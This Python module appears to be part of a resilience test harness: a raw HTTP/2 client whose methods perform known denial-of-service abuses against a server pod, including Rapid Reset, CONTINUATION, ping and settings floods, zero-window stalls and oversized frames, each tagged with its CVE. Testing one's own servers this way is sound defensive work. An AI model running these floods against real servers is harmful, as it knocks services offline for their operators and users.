"""Clients that know HTTP/2 and mean no good: each abuse is a method that does it for a while on a
connection of its own, and ends when the server has cut it off or the time is over."""

from __future__ import annotations

import asyncio
import struct
import time
from collections.abc import Awaitable, Callable
from contextlib import suppress
from typing import Final

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.settings import SettingCodes

from bench.abuse_load import CONNECT
from tests.waiting import Every

Abuse = Callable[["RawHttp2"], Awaitable[None]]

_HEADERS: Final = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", CONNECT),
    (":authority", "whimbrel"),
    ("te", "trailers"),
    ("content-type", "application/grpc"),
]
_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS_FRAME, _RST, _SETTINGS, _PING, _WINDOW_UPDATE, _CONTINUATION = 0, 1, 3, 4, 6, 8, 9
_END_HEADERS: Final = 4


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """One HTTP/2 frame (RFC 9113, 4.1)."""
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


class RawHttp2:
    """One TCP connection to a pod."""

    def __init__(self, address: str, source: str, until: float) -> None:
        """`until`: monotonic seconds at which it gives up by itself."""
        self._address = address
        self._source = source
        self._until = until
        self.sent = 0
        """Bytes that went out."""
        self.was_cut = False
        """The server has ended the connection."""

    async def run(self, abuse: Abuse) -> None:
        """Connect, do it, close."""
        host, _, port = self._address.rpartition(":")
        self._reader, self._writer = await asyncio.open_connection(
            host, int(port), local_addr=(self._source, 0)
        )
        reading = asyncio.create_task(self._read())
        try:
            async with asyncio.timeout_at(asyncio.get_running_loop().time() + self._left()):
                await abuse(self)
                await reading
        except TimeoutError:
            pass
        except OSError:
            self.was_cut = True
        finally:
            reading.cancel()
            self._writer.transport.abort()

    async def say(self, data: bytes) -> None:
        """Write, as fast as the server takes it."""
        if self.was_cut:
            raise ConnectionError
        self._writer.write(data)
        self.sent += len(data)
        await self._writer.drain()
        await asyncio.sleep(0)  # drain alone yields only when the buffer is full

    @property
    def goes_on(self) -> bool:
        """Whether there is time left, and somebody at the other end."""
        return not self.was_cut and self._left() > 0

    def _left(self) -> float:
        return self._until - time.monotonic()

    async def _read(self) -> None:
        with suppress(OSError):
            while await self._reader.read(65536):
                pass
        self.was_cut = True

    # --- abuses ------------------------------------------------------------------------

    async def stay_half_open(self) -> None:
        """Half of the preface, and nothing more."""
        await self.say(_PREFACE[:12])

    async def send_slow_headers(self) -> None:
        """A header block that never ends, a few bytes at a time (CVE-2024-27316)."""
        await self.say(_PREFACE + frame(_SETTINGS, 0, 0, b""))
        await self.say(frame(_HEADERS_FRAME, 0, 1, self._block()))
        async for _ in Every(0.001):
            if not self.goes_on:
                break
            await self.say(frame(_CONTINUATION, 0, 1, b"\x00\x01a\x01b"))

    async def send_huge_frames(self) -> None:
        """Frames larger than the server permits."""
        http = self._opened()
        await self.say(http.data_to_send())
        while self.goes_on:
            await self.say(frame(_DATA, 0, 1, bytes(1 << 20)))

    async def send_huge_messages(self) -> None:
        """gRPC messages that claim 4 GiB, in frames of the right size."""
        http = self._opened()
        await self.say(http.data_to_send() + frame(_DATA, 0, 1, b"\x00\xff\xff\xff\xff"))
        while self.goes_on:
            await self.say(frame(_DATA, 0, 1, bytes(16_384)))

    async def reset_rapidly(self) -> None:
        """Open and reset streams without end (CVE-2023-44487)."""
        block = self._block()
        await self.say(_PREFACE + frame(_SETTINGS, 0, 0, b""))
        stream = 1
        while self.goes_on and stream < 1 << 30:
            burst = b""
            for _ in range(100):
                burst += frame(_HEADERS_FRAME, _END_HEADERS, stream, block)
                burst += frame(_RST, 0, stream, (8).to_bytes(4))
                stream += 2
            await self.say(burst)

    async def flood_pings(self) -> None:
        """Pings, each of which wants an answer (CVE-2019-9512)."""
        await self.say(_PREFACE + frame(_SETTINGS, 0, 0, b""))
        while self.goes_on:
            await self.say(frame(_PING, 0, 0, bytes(8)) * 100)

    async def flood_settings(self) -> None:
        """Settings, each of which wants an acknowledgement (CVE-2019-9515)."""
        await self.say(_PREFACE + frame(_SETTINGS, 0, 0, b""))
        while self.goes_on:
            await self.say(frame(_SETTINGS, 0, 0, struct.pack("!HI", 3, 100)) * 100)

    async def never_open_the_window(self) -> None:
        """Streams whose answers have no room to be written, on many streams (CVE-2019-9511)."""
        http = H2Connection(H2Configuration(client_side=True))
        http.local_settings[SettingCodes.INITIAL_WINDOW_SIZE] = 0
        http.initiate_connection()
        for number in range(8):
            http.send_headers(2 * number + 1, _HEADERS)
        await self.say(http.data_to_send())
        for number in range(8):  # an empty frame each: answered with a Close
            await self.say(frame(_DATA, 0, 2 * number + 1, b"\x00\x00\x00\x00\x00"))

    async def update_windows(self) -> None:
        """Windows that grow by one byte at a time."""
        await self.say(self._opened().data_to_send())
        while self.goes_on:
            await self.say(frame(_WINDOW_UPDATE, 0, 0, (1).to_bytes(4)) * 100)

    async def send_empty_frames(self) -> None:
        """DATA frames without data (CVE-2019-9518)."""
        await self.say(self._opened().data_to_send())
        while self.goes_on:
            await self.say(frame(_DATA, 0, 1, b"") * 100)

    async def send_nonsense(self) -> None:
        """No HTTP/2 at all."""
        while self.goes_on:
            await self.say(b"GET / HTTP/1.1\r\nhost: x\r\n\r\n" * 100)

    def _opened(self) -> H2Connection:
        http = H2Connection(H2Configuration(client_side=True))
        http.initiate_connection()
        http.send_headers(1, _HEADERS)
        return http

    def _block(self) -> bytes:
        """The header block of a call, in literals that need no table."""
        block = b""
        for name, value in _HEADERS:
            block += bytes((0x10, len(name))) + name.encode()
            block += bytes((len(value),)) + value.encode()
        return block
